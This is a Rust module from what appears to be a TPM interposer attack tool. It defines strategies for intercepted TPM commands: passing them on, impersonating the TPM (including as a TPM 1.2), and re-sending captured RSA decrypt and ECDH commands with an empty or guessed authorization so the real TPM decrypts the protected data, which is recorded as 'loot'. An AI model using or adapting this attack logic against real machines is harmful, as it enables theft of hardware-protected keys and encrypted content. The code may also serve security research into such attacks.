//! What is done with a command: passed on, answered by an impostor, used for oneself.

use super::super::tpm::cc;
use super::attack::is_housekeeping;
use super::impostor::Impostor;
use super::impostor12::Impostor12;
use super::loot::{Learned, Loot};
use super::wire::{Answer, Auth, Bytes, Command};
use std::io;

/// The TPM behind the interposer.
pub trait Tpm {
    /// Has the TPM execute a command.
    fn ask(&mut self, command: &[u8]) -> io::Result<Vec<u8>>;
}

/// One way to deal with commands; it lives as long as the attack, over all connections.
pub trait Strategy: Send {
    /// What the module gets for `frame`.
    fn turn(&mut self, frame: &[u8], tpm: &mut dyn Tpm, loot: &mut Loot) -> io::Result<Vec<u8>>;

    /// The warm-up is over: from now on it strikes. Only what learns from an earlier run cares.
    fn strike_now(&mut self) {}
}

/// Does nothing.
pub struct PassOn;

impl Strategy for PassOn {
    fn turn(&mut self, frame: &[u8], tpm: &mut dyn Tpm, _: &mut Loot) -> io::Result<Vec<u8>> {
        tpm.ask(frame)
    }
}

/// Answers in the TPM's place.
pub struct Posing(pub Impostor);

impl Strategy for Posing {
    fn turn(&mut self, frame: &[u8], tpm: &mut dyn Tpm, loot: &mut Loot) -> io::Result<Vec<u8>> {
        let Some(command) = Command::read(frame).filter(|command| self.0.wants(command)) else {
            return tpm.ask(frame);
        };
        if !is_housekeeping(command.code) {
            loot.strike();
        }
        let answer = self.0.answer(command.clone(), loot);
        if command.code == cc::RSA_DECRYPT && answer.rc == 0 {
            self.read_on(&command, tpm, loot)?;
        }
        Ok(answer.frame())
    }
}

impl Posing {
    /// With a value that it has guessed it has the true key decrypt what was meant for it.
    fn read_on(&mut self, command: &Command, tpm: &mut dyn Tpm, loot: &mut Loot) -> io::Result<()> {
        if let Some(value) = self.0.guessed() {
            let own = Command {
                auths: vec![Auth::password(value)],
                ..command.clone()
            };
            if tpm.ask(&own.frame()).is_ok_and(|answer| succeeded(&answer)) {
                loot.learned.insert(Learned::Content);
            }
        }
        Ok(())
    }
}

/// Answers as a TPM 1.2.
pub struct Speaking12(pub Impostor12);

impl Strategy for Speaking12 {
    fn turn(&mut self, frame: &[u8], _: &mut dyn Tpm, loot: &mut Loot) -> io::Result<Vec<u8>> {
        Ok(self.0.answer(frame, loot))
    }
}

/// Passes everything on, and then has the TPM do the same for itself.
pub struct OwnUse;

impl Strategy for OwnUse {
    fn turn(&mut self, frame: &[u8], tpm: &mut dyn Tpm, loot: &mut Loot) -> io::Result<Vec<u8>> {
        let answer = tpm.ask(frame)?;
        let command = Command::read(frame)
            .filter(|command| [cc::RSA_DECRYPT, cc::ECDH_ZGEN].contains(&command.code));
        if let Some(command) = command {
            loot.strike();
            // The ciphertext passed in clear; the key has no value, or it does not know it.
            let own = Command {
                auths: vec![Auth::password(&[])],
                ..command
            };
            if succeeded(&tpm.ask(&own.frame())?) {
                loot.learned.insert(Learned::Content);
            }
        }
        Ok(answer)
    }
}

fn succeeded(frame: &[u8]) -> bool {
    Answer::read(cc::RSA_DECRYPT, frame).is_some_and(|answer| {
        answer.rc == 0 && Bytes(&answer.parameters).sized().is_some_and(|b| !b.is_empty())
    })
}
